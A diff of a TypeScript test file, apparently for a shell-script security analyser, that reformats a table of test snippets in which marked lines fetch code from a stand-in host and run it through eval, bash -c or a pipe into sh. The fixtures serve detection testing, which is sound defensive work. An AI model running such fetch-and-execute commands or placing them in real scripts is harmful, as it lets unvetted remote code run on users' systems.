@@ -6,13 +6,16 @@ import { assertSound } from "./invariants.js";
 /** Commands behind the functions of a script: the marked one is reached through functions that were called many times before. */
 const endings: Readonly<Record<string, string>> = {
   "a function that fetches": '«eval "$(_fetch https://depot.example/x)"»\n',
-  "a function that executes what it is given": '_run() {\n  «eval "$1"»\n}\n_run "echo one"\n_run "$two"\n_run "$(_fetch https://depot.example/x)"\n',
-  "a variable that another function sets": '_begin() {\n  «eval "$_program"»\n}\n_begin\n_program="$(_fetch https://depot.example/x)"\n_begin\n',
+  "a function that executes what it is given":
+    '_run() {\n  «eval "$1"»\n}\n_run "echo one"\n_run "$two"\n_run "$(_fetch https://depot.example/x)"\n',
+  "a variable that another function sets":
+    '_begin() {\n  «eval "$_program"»\n}\n_begin\n_program="$(_fetch https://depot.example/x)"\n_begin\n',
   "a program that a function is given":
     '_through() {\n  «curl -s https://depot.example/x | "$1"»\n}\n_through cat\n_through wc\n_through sh\n',
   "an option that a function is given":
     '_get() {\n  curl -s "$1" "$2" https://depot.example/x\n}\n_get -o /tmp/x | sh\n_get --header "A: b" | wc\n«_get -m 3 | sh»\n',
-  "words behind those that are gone": '_later() {\n  _first="$1"\n  shift\n  «bash -c "$1"»\n}\n_later one two\n_later one "$(_fetch https://depot.example/x)"\n',
+  "words behind those that are gone":
+    '_later() {\n  _first="$1"\n  shift\n  «bash -c "$1"»\n}\n_later one two\n_later one "$(_fetch https://depot.example/x)"\n',
 };
 
 describe("long scripts", { timeout: 120_000 }, () => {
